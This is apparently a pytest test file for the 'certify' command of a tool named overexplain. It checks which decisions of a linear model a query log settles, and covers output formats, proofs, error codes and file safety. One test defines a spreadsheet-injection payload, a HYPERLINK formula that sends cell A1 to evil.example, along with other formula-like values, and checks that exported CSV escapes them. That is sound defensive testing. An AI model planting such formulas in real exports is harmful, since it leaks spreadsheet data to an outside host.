"""`overexplain certify`: what it prints and writes, that it is true, and that a fault leaves nothing behind."""

from __future__ import annotations

import csv
import json
import shlex
import time
from pathlib import Path

import numpy as np
import pytest
from scipy.optimize import linprog

from overexplain.cli import points_csv
from overexplain.cli.main import run
from overexplain.geometry.hyperplane import Hyperplane
from overexplain.geometry.mechanism import Mechanism
from overexplain.knowledge.certificates import read_numbered
from overexplain.knowledge.engine import Knowledge
from overexplain.log.querylog import QueryLog
from overexplain.oracles.exact import ModelOracle

FEATURES = ("income", "age", "debts")
MODEL = Hyperplane([1.0, 0.5, -1.5], 0.25)
L1 = Mechanism("l1")


def asked(count: int, explained: int = 0, terms: Mechanism | None = L1, seed: int = 0) -> QueryLog:
    """A log of so many labels and explanations of the model."""
    rng = np.random.default_rng(seed)
    service = ModelOracle(MODEL, L1)
    log = QueryLog(features=FEATURES, mechanism=terms)
    points = rng.normal(size=(count, 3)).round(3)
    log.add_label(points, service.classify(points))
    if explained:
        questions = rng.normal(size=(explained, 3)).round(3)
        log.add_explanation(questions, service.explain(questions), label=service.classify(questions))
    return log


def applicants(count: int, seed: int = 1) -> np.ndarray:
    """Points, also saved as points.csv with the columns in another order and an id."""
    rows = np.random.default_rng(seed).normal(size=(count, 3)).round(3)
    lines = [f"{debts},n{i:03},{income},{age}" for i, (income, age, debts) in enumerate(rows.tolist())]
    Path("points.csv").write_text("\n".join(["debts,id,income,age", *lines]) + "\n")
    return rows


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    asked(40).save("log.jsonl")


def verdicts_of(name: str = "verdicts.csv") -> list[dict[str, str]]:
    with Path(name).open(newline="") as file:
        return list(csv.DictReader(file))


def by_linear_programs(log: QueryLog, points: np.ndarray) -> list[str]:
    """A second opinion on labels alone: the signs that q·w can have over all consistent w, by two programs each."""
    rows = -log.labels[:, None] * np.column_stack([log.points, -np.ones(len(log))])
    names = []
    for point in points:
        query = np.append(point, -1.0)
        low, high = (
            sign * linprog(sign * query, A_ub=rows, b_ub=np.zeros(len(rows)), bounds=(-1, 1)).fun for sign in (1, -1)
        )
        names.append("UNKNOWN" if low < -1e-9 and high > 1e-9 else "YES" if high > 1e-9 else "NO")
    return names


def test_verdicts_are_those_of_a_second_opinion(capsys) -> None:
    points = applicants(60)
    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv"]) == 0
    rows = verdicts_of()
    assert list(rows[0]) == ["row", "id", "verdict"]
    assert [(row["row"], row["id"]) for row in rows] == [(str(i), f"n{i:03}") for i in range(60)]
    expected = by_linear_programs(asked(40), points)
    assert [row["verdict"] for row in rows] == expected
    assert set(expected) == {"YES", "NO", "UNKNOWN"}  # or this test would say little


def test_text_says_what_it_means_in_80_columns(capsys) -> None:
    points = applicants(60)
    names = by_linear_programs(asked(40), points)
    yes, no, unknown = (names.count(name) for name in ("YES", "NO", "UNKNOWN"))
    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv", "--proofs", "proofs.jsonl"]) == 0
    out, err = capsys.readouterr()
    lines = out.splitlines()
    assert lines[0] == f"60 points: {yes} certain Yes, {no} certain No, {unknown} unknown."
    share = f"{100 * (yes + no) / 60:.0f} %"
    assert lines[2].startswith(f"The log (40 labels and 0 explanations) determines {share} of these decisions:")
    assert lines[5] == "verdict    points  share  meaning"
    assert lines[6] == f"YES        {yes:>6} {f'{100 * yes / 60:.0f} %':>6}  every model that fits the log says Yes"
    assert lines[-3:-1] == ["verdicts saved: verdicts.csv", "proofs saved: proofs.jsonl"]
    check = "overexplain verify proofs.jsonl log.jsonl --verdicts verdicts.csv --points points.csv"
    assert lines[-1] == f"to check them: {check}"
    assert err == "note: points.csv: 'id' is no feature; it is kept in verdicts.csv\n"
    assert out.isascii()
    assert all(len(line) <= 80 and line == line.rstrip() for line in lines[:-1])


def test_json_has_the_same_numbers_and_nothing_else_is_printed(capsys) -> None:
    applicants(60)
    assert run(["certify", "log.jsonl", "points.csv", "--json", "--proofs", "proofs.jsonl"]) == 0
    out, err = capsys.readouterr()
    found = json.loads(out)
    assert out.count("\n") == 1
    assert err == "note: points.csv: 'id' is no feature and is not used\n"
    assert set(found) == {"overexplain", "points", "counts", "determined", "oriented", "pinned_down", "proofs", "log"}
    assert list(found["counts"]) == ["YES", "NO", "UNKNOWN", "BOUNDARY", "UNDECIDED"]
    assert (found["points"], sum(found["counts"].values()), found["proofs"]) == (60, 60, 60)
    assert found["determined"] == (found["counts"]["YES"] + found["counts"]["NO"]) / 60
    assert (found["oriented"], found["pinned_down"]) == (True, False)
    assert found["log"] == {"rows": 40, "labels": 40, "explanations": 0}


def test_every_proof_is_of_its_point_and_holds() -> None:
    asked(30, explained=1).save("both.jsonl")
    points = applicants(25)
    assert run(["certify", "both.jsonl", "points.csv", "-o", "verdicts.csv", "--proofs", "proofs.jsonl"]) == 0
    log = QueryLog.load("both.jsonl")
    names = [row["verdict"] for row in verdicts_of()]
    proofs = [read_numbered(line) for line in Path("proofs.jsonl").read_text().splitlines()]
    assert [row for row, _ in proofs] == [i for i, name in enumerate(names) if name != "UNDECIDED"]
    for row, proof in proofs:
        proof.verify(log)
        assert list(proof.point) == points[row].tolist()
        assert proof.verdict.name == names[row]
    assert {"YES", "NO", "UNKNOWN"} <= set(names)


@pytest.mark.parametrize(
    "terms", [[], ["--distance", "l1"], ["--distance", "l1", "--tolerance", "0.001"], ["--slack", "any"]]
)
@pytest.mark.parametrize("output", [[], ["-o", "the verdicts.csv"]])
def test_the_command_that_it_prints_accepts_what_it_wrote(terms, output, capsys) -> None:
    applicants(8)
    asked(20, explained=2, terms=None).save("bare.jsonl")
    assert run(["certify", "bare.jsonl", "points.csv", "--proofs", "proofs.jsonl", *output, *terms]) == 0
    line = capsys.readouterr().out.splitlines()[-1]
    program, *arguments = shlex.split(line.removeprefix("to check them: "))
    assert program == "overexplain"
    assert run(arguments) == 0
    assert capsys.readouterr().out.startswith("All 8 proofs hold")


def test_blocks_make_no_difference(monkeypatch, capsys) -> None:
    applicants(60)
    assert run(["certify", "log.jsonl", "points.csv", "-o", "whole.csv"]) == 0
    monkeypatch.setattr(points_csv, "BLOCK", 7)
    assert run(["certify", "log.jsonl", "points.csv", "-o", "blocks.csv"]) == 0
    assert Path("blocks.csv").read_bytes() == Path("whole.csv").read_bytes()


def test_terms_for_a_log_that_states_none(capsys) -> None:
    applicants(200)
    asked(40, explained=1).save("stated.jsonl")
    asked(40, explained=1, terms=None).save("bare.jsonl")
    counts = {}
    for name, options in {"stated": [], "bare": [], "said": ["--distance", "l1"]}.items():
        file = "stated.jsonl" if name == "stated" else "bare.jsonl"
        assert run(["certify", file, "points.csv", "--json", *options]) == 0
        out, err = capsys.readouterr()
        counts[name] = json.loads(out)["counts"], json.loads(out)["log"]["explanations"]
        assert ("1 explanation in bare.jsonl says nothing of its terms; it is not used" in err) == (name == "bare")
    assert counts["said"] == counts["stated"]
    assert counts["bare"][1] == 0
    assert counts["bare"][0]["UNKNOWN"] > counts["said"][0]["UNKNOWN"]
    assert run(["certify", "stated.jsonl", "points.csv", "--distance", "l2", "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["counts"] == counts["stated"][0]  # a log's own word counts
    assert "every explanation in stated.jsonl states its own terms; those given are not used" in err


def test_looser_terms_give_less_away(capsys) -> None:
    applicants(200)
    asked(20, explained=3, terms=None).save("bare.jsonl")
    unknown = []
    for options in (["--distance", "l1"], ["--distance", "l1", "--tolerance", "0.01"], ["--slack", "any"], []):
        assert run(["certify", "bare.jsonl", "points.csv", "--json", *options]) == 0
        unknown.append(json.loads(capsys.readouterr().out)["counts"]["UNKNOWN"])
    assert unknown == sorted(unknown)
    assert unknown[0] < unknown[1] < unknown[3]


def test_a_model_that_is_known_is_said_to_be(capsys) -> None:
    applicants(20)
    asked(5, explained=8).save("much.jsonl")
    assert Knowledge(QueryLog.load("much.jsonl")).pinned_down
    assert run(["certify", "much.jsonl", "points.csv"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "determines 100 % of these decisions" in out
    assert "Only one model fits it" in out


def test_without_labels_it_says_that_yes_and_no_may_be_exchanged(capsys) -> None:
    applicants(20)
    log = QueryLog(features=FEATURES, mechanism=L1)
    questions = np.random.default_rng(3).normal(size=(6, 3))
    log.add_explanation(questions, ModelOracle(MODEL, L1).explain(questions))
    log.save("silent.jsonl")
    assert run(["certify", "silent.jsonl", "points.csv"]) == 0
    assert "no label that tells Yes from No" in " ".join(capsys.readouterr().out.split())


def test_no_points_is_no_error(capsys) -> None:
    applicants(0)
    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv"]) == 0
    assert capsys.readouterr().out.startswith("0 points: 0 certain Yes, 0 certain No, 0 unknown.\n")
    assert Path("verdicts.csv").read_text() == "row,id,verdict\n"


@pytest.mark.parametrize(
    ("header", "columns", "says"),
    [
        ("income,age,debts", ["row", "verdict"], ""),
        ("income,age,debts,row", ["row", "verdict"], "note: x.csv: 'row' is no feature and is not used\n"),
        ("income,age,debts,p,q", ["row", "verdict"], "note: x.csv: 'p', 'q' are no features and are not used\n"),
        ("income,age,debts,p", ["row", "p", "verdict"], "note: x.csv: 'p' is no feature; it is kept in out.csv\n"),
    ],
)
def test_one_column_that_is_no_feature_is_kept(header, columns, says, capsys) -> None:
    Path("x.csv").write_text(f"{header}\n{','.join('1' for _ in header.split(','))}\n")
    assert run(["certify", "log.jsonl", "x.csv", "-o", "out.csv"]) == 0
    assert list(verdicts_of("out.csv")[0]) == columns
    assert capsys.readouterr().err == says


def test_a_contradiction_is_4_with_its_rows_and_its_proof(capsys) -> None:
    applicants(3)
    log = QueryLog(features=FEATURES)
    log.add_label([[0.0, 0.0, 0.0], [5.0, 5.0, 5.0], [1.0, 0.0, 0.0], [2.0, 0.0, 0.0]], [1, 1, -1, 1])
    log.save("false.jsonl")
    assert run(["certify", "false.jsonl", "points.csv", "-o", "verdicts.csv"]) == 4
    out, err = capsys.readouterr()
    assert out == ""
    error = err.splitlines()[-1]
    assert error.startswith("error: false.jsonl: no linear model fits rows 0, 2, 3 (counted from 0) together: 0 = ")
    assert "a label is wrong" in error
    assert not Path("verdicts.csv").exists()


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["none.jsonl", "points.csv"], "none.jsonl"),
        (["log.jsonl", "none.csv"], "none.csv: No such file"),
        (["log.jsonl", "late.csv", "-o", "out.csv", "--proofs", "out.jsonl"], "late.csv, line 12: 'age' is 'x'"),
        (["log.jsonl", "points.csv", "-o", "nowhere/out.csv"], "nowhere"),
        (["log.jsonl", "points.csv", "-o", "there.csv"], "there.csv: exists already"),
        (["log.jsonl", "points.csv", "--proofs", "log.jsonl"], "log.jsonl: exists already"),
        (["log.jsonl", "points.csv", "-o", "same", "--proofs", "./same"], "must be different files"),
        (["log.jsonl", "points.csv", "--distance", "l7"], "unknown norm 'l7'"),
        (["log.jsonl", "points.csv", "--distance", "l1", "--tolerance", "-1"], "tolerance must not be negative"),
        (["empty.jsonl", "points.csv"], "empty.jsonl has no rows"),
        (["log.jsonl", "log.jsonl"], "log.jsonl: no column for 'income', 'age', 'debts'"),
    ],
)
def test_input_that_cannot_be_used_is_3_and_nothing_is_written(arguments, says, monkeypatch, capsys) -> None:
    monkeypatch.setattr(points_csv, "BLOCK", 4)  # so that whole blocks are certified before the fault
    applicants(10)
    Path("late.csv").write_text("income,age,debts\n" + "1,2,3\n" * 10 + "1,x,3\n")
    Path("there.csv").write_text("precious")
    QueryLog(features=FEATURES).save("empty.jsonl")
    before = {path.name for path in Path().iterdir()}
    assert run(["certify", *arguments]) == 3
    out, err = capsys.readouterr()
    assert out == ""
    assert [line.startswith("error: ") for line in err.splitlines() if not line.startswith("note: ")] == [True]
    assert says in err
    assert {path.name for path in Path().iterdir()} == before
    assert Path("there.csv").read_text() == "precious"


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["--tolerance", "1"], "--tolerance and --slack need --distance"),
        (["--slack", "0.5"], "--tolerance and --slack need --distance"),
        (["--slack", "-1"], "--slack"),
        (["--slack", "nan"], "--slack"),
        (["--time-limit", "-1"], "--time-limit"),
    ],
)
def test_wrong_usage_is_2(options, says, capsys) -> None:
    assert run(["certify", "log.jsonl", "points.csv", *options]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert says in err
    assert err.count("\n") == 1


@pytest.mark.parametrize("command", ["certify", "map"])
def test_help_is_plain_and_80_columns_wide(command, capsys) -> None:
    assert run([command, "--help"]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert out.startswith(f"Usage: overexplain {command}")
    assert out.isascii()
    assert max(map(len, out.splitlines())) <= 80
    run(["--help"])
    assert f"  {command} " in capsys.readouterr().out


def test_a_log_that_a_crash_cut_short_is_used_with_a_note(capsys) -> None:
    applicants(5)
    Path("cut.jsonl").write_text(Path("log.jsonl").read_text() + '{"x": [1.0, 2')
    assert run(["certify", "cut.jsonl", "points.csv", "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["log"]["rows"] == 40
    assert err.startswith("note: cut.jsonl, line 42: the last line was cut short")


def test_undecided_points_are_counted_and_have_no_proof(monkeypatch, capsys) -> None:
    applicants(12)
    certify = Knowledge.certify

    def hesitant(self, blocks):
        for verdicts in certify(self, blocks):
            verdicts.codes.setflags(write=True)
            verdicts.codes[::3] = 3
            yield verdicts

    monkeypatch.setattr(Knowledge, "certify", hesitant)
    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv", "--proofs", "proofs.jsonl"]) == 0
    out = capsys.readouterr().out
    assert ", 4 undecided.\n" in out
    assert "UNDECIDED" in out
    rows = [read_numbered(line)[0] for line in Path("proofs.jsonl").read_text().splitlines()]
    assert rows == [i for i in range(12) if i % 3]
    assert [row["verdict"] == "UNDECIDED" for row in verdicts_of()] == [i % 3 == 0 for i in range(12)]


def test_columns_that_only_the_file_names_are_taken_in_order_and_said_so(capsys) -> None:
    log = QueryLog()
    log.add_label([[0.0, 0.0], [5.0, 5.0]], [-1, 1])
    log.save("nameless.jsonl")
    Path("named.csv").write_text("age,income\n1,2\n", encoding="utf-8")
    assert run(["certify", "nameless.jsonl", "named.csv"]) == 0
    assert "nameless.jsonl has no names of features: the columns" in capsys.readouterr().err


def test_true_and_false_are_one_and_zero(capsys) -> None:
    log = QueryLog(features=["member", "age"])
    log.add_label([[0.0, 30.0], [1.0, 40.0]], [-1, 1])
    log.save("truth.jsonl")
    Path("truth.csv").write_text("member,age\nFalse,30\nTrue,40\n", encoding="utf-8")
    assert run(["certify", "truth.jsonl", "truth.csv", "--json"]) == 0
    counts = json.loads(capsys.readouterr().out)["counts"]
    assert (counts["YES"], counts["NO"]) == (1, 1)


def test_what_is_undecided_is_not_called_undetermined(capsys) -> None:
    from overexplain.auditing.determined import Determined
    from overexplain.report.certified import print_determined
    from overexplain.report.terminal import terminal

    counts = {"YES": 1, "NO": 0, "UNKNOWN": 0, "BOUNDARY": 0, "UNDECIDED": 3}
    print_determined(
        Determined(counts, rows=2, labels=2, explanations=0, oriented=True, pinned_down=False, proofs=None), terminal()
    )
    out = " ".join(capsys.readouterr().out.split())
    assert "determines at least 25 % of these decisions" in out
    assert "75 % are not settled" in out


def test_a_foreign_table_is_certified_and_the_check_that_is_printed_works(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    Path("march.csv").write_text("age,income,decision,new\n1,2,granted,\n-1,-2,denied,\n")
    Path("points.csv").write_text("age,income\n2,4\n-2,-4\n5,-5\n")
    mapping = ["--map", "x=age+income,y=decision", "--map", "yes=granted"]
    assert run(["certify", "march.csv", "points.csv", "-o", "verdicts.csv", "--proofs", "proofs.jsonl", *mapping]) == 0
    line = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("to check them: "))
    command = shlex.split(line.removeprefix("to check them: overexplain "))
    assert command[-4:] == mapping
    assert run(command) == 0
    assert "All 3 proofs hold" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (["-o", "verdicts.parquet"], "verdicts are written to a .csv file"),
        (["-o", "verdicts.json"], "verdicts are written to a .csv file"),
        (["--proofs", "proofs.csv"], "proofs are written to a .jsonl file"),
    ],
)
def test_files_are_what_their_endings_say(options, said, capsys) -> None:
    applicants(5)
    assert run(["certify", "log.jsonl", "points.csv", *options]) == 3
    assert said in capsys.readouterr().err
    assert not Path(options[1]).exists()


def test_points_that_are_not_there(capsys) -> None:
    assert run(["certify", "log.jsonl", "nothere", "-o", "verdicts.csv"]) == 3
    assert "No such file" in capsys.readouterr().err
    assert run(["certify", "log.jsonl", "nothere", "-o", "verdicts", "--workers", "2"]) == 3
    assert "No such file" in capsys.readouterr().err


def test_terms_that_are_not_used_are_said(capsys) -> None:
    """A log that states its own terms is not read under others, whichever command reads it."""
    applicants(5)
    asked(20, explained=3).save("stated.jsonl")
    assert run(["certify", "stated.jsonl", "points.csv", "--proofs", "proofs.jsonl"]) == 0
    capsys.readouterr()
    for command in (["verify", "proofs.jsonl", "stated.jsonl"], ["log", "check", "stated.jsonl"]):
        assert run([*command, "--slack", "any"]) == 0
        assert "states its own terms; those given are not used" in capsys.readouterr().err
    # What a reviewer who doubts them does: decisions alone.
    QueryLog.load("stated.jsonl").reread(None).save("bare.jsonl")
    assert run(["certify", "bare.jsonl", "points.csv"]) == 0
    out, err = capsys.readouterr()
    assert "(23 labels and 0 explanations)" in out
    assert err.startswith("note: 3 explanations in bare.jsonl say nothing of their terms; they are not used")


def test_a_time_limit_holds_where_labels_are_fewer_than_features(capsys) -> None:
    """What labels cannot reach is found by an elimination in rationals, which for these takes minutes."""
    rng = np.random.default_rng(0)
    features = [f"x{i}" for i in range(1500)]
    log, points = QueryLog(features=features), rng.normal(size=(150, 1500)).round(3)
    log.add_label(points, Hyperplane(rng.normal(size=1500), 0.1).labels(points))
    log.save("wide.jsonl")
    middle = ",".join(repr(v) for v in ((points[0] + points[1]) / 2).tolist())
    Path("middle.csv").write_text(",".join(features) + "\n" + middle + "\n")
    began = time.monotonic()
    assert run(["certify", "wide.jsonl", "middle.csv", "--time-limit", "1", "--json"]) == 0
    assert time.monotonic() - began < 20
    assert json.loads(capsys.readouterr().out)["counts"]["UNDECIDED"] == 1


def test_shares_beside_undecided_points_are_bounds_on_the_safe_side(capsys) -> None:
    from overexplain.auditing.determined import Determined
    from overexplain.report.certified import print_determined
    from overexplain.report.terminal import terminal

    counts = {"YES": 126, "NO": 250, "UNKNOWN": 24, "BOUNDARY": 0, "UNDECIDED": 600}
    print_determined(Determined(counts, 9, 9, 0, True, False), terminal())
    out = capsys.readouterr().out
    assert "determines at least 37 % of these decisions" in " ".join(out.split())
    shares = {line.split()[0]: " ".join(line.split()[2:5]) for line in out.splitlines() if line[:3].isupper()}
    assert (shares["YES"], shares["NO"], shares["UNKNOWN"]) == (">= 12 %", ">= 25 %", ">= 2 %")
    assert shares["UNDECIDED"].startswith("60 %")
    assert all(len(line) <= 80 for line in out.splitlines())


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize("ids", [FORMULA, "@SUM(1+1)", "+1", "-1", "'=1"])
def test_an_id_that_a_spreadsheet_would_run_is_written_as_log_convert_writes_it(ids, capsys) -> None:
    """Both as cell and as name of its column; the points' own columns may be such, too."""
    log = QueryLog(FEATURES, L1)
    log.add_label([1.0, 2.0, 3.0], 1, client=ids)
    log.save("clients.jsonl")
    assert run(["log", "convert", "clients.jsonl", "clients.csv"]) == 0
    with Path("clients.csv").open(newline="") as file:
        (escaped,) = [row["client"] for row in csv.DictReader(file)]
    assert escaped.startswith("'")
    with Path("points.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["income", ids, "age", "debts"], [1.0, ids, 2.0, 3.0]])
    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv"]) == 0
    (row,) = verdicts_of()
    assert row == {"row": "0", escaped: escaped, "verdict": row["verdict"]}


def test_features_that_a_spreadsheet_would_run_can_be_proved_and_verified(capsys) -> None:
    names = ["=income", "-age", "debts"]
    Path("model.json").write_text(json.dumps({"features": names, "coefficients": [1.0, 0.5, -1.5], "intercept": -0.25}))
    with Path("cases.csv").open("w", newline="") as file:
        csv.writer(file).writerows([names, *np.random.default_rng(0).normal(size=(60, 3)).round(3).tolist()])
    options = ["--service", "l1", "--orders", "2", "--maps", "0", "--no-compare", "--no-defences"]
    assert run(["audit", "model.json", "--data", "cases.csv", *options, "--proofs", "shown"]) == 0
    for path in Path("shown").glob("*.cases.csv"):
        assert path.read_text().splitlines()[0] == "'=income,'-age,debts"
    assert run(["verify", "shown"]) == 0
